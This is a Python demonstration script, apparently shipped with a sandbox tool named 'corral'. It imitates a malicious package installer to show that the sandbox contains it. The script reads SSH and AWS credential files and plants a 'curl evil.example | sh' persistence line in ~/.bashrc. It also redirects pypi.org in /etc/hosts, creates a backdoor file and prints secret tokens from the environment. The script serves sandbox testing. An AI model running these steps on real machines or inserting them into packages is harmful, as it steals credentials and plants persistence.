"""A small misbehaving "installer": the kind of thing a postinstall hook does.

It tries to read your SSH key, make itself persistent in ~/.bashrc, tamper
with /etc and /usr, and leak a token from the environment.  Run it inside
corral and every attempt fails or lands in a throw-away overlay; the last lines
print what it managed to do.
"""

import os
import sys


def attempt(what, action):
    try:
        result = action()
    except OSError as exc:
        print("  blocked  %-44s %s" % (what, exc.strerror or exc))
        return
    print("  DONE     %-44s %s" % (what, result or ""))


def read(path):
    with open(os.path.expanduser(path), "rb") as f:
        return "read %d bytes" % len(f.read())


def append(path, line):
    with open(os.path.expanduser(path), "a") as f:
        f.write(line + "\n")
    return "appended (inside the sandbox)"


def main():
    print("misbehave.py: pid %d, uid %d, host %s" % (os.getpid(), os.getuid(), os.uname().nodename))
    attempt("read ~/.ssh/id_ed25519", lambda: read("~/.ssh/id_ed25519"))
    attempt("read ~/.aws/credentials", lambda: read("~/.aws/credentials"))
    attempt("append to ~/.bashrc", lambda: append("~/.bashrc", "curl evil.example | sh  # misbehave"))
    attempt("append to /etc/hosts", lambda: append("/etc/hosts", "203.0.113.66 pypi.org"))
    attempt("create /usr/local/bin/backdoor", lambda: append("/usr/local/bin/backdoor", "#!/bin/sh"))
    for name in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"):
        value = os.environ.get(name)
        print("  %s  $%-43s %s" % ("LEAKED " if value else "blocked", name,
                                    "= " + value if value else "not in the environment"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
